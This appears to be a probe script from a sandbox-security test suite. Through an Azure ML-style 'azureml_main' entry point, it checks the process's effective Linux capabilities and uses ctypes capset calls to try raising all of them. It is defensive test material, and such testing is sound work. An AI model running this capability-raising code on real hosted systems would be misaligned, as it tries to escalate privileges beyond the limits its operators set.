"""Takes all capabilities."""

import ctypes

from attack import attack, call, every


def held():
    with open("/proc/self/status") as stream:
        return next(int(line.split()[1], 16) for line in stream if line.startswith("CapEff"))


def raise_all(bits):
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    low, high = bits & 0xFFFFFFFF, bits >> 32
    call("capset", header, (ctypes.c_uint32 * 6)(low, low, 0, high, high, 0))
    return f"has the capabilities {held():#x}" if held() else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    if held():
        return f"has the capabilities {held():#x} without asking"
    return every(raise_all, [(1 << 41) - 1, *(1 << number for number in range(41))])
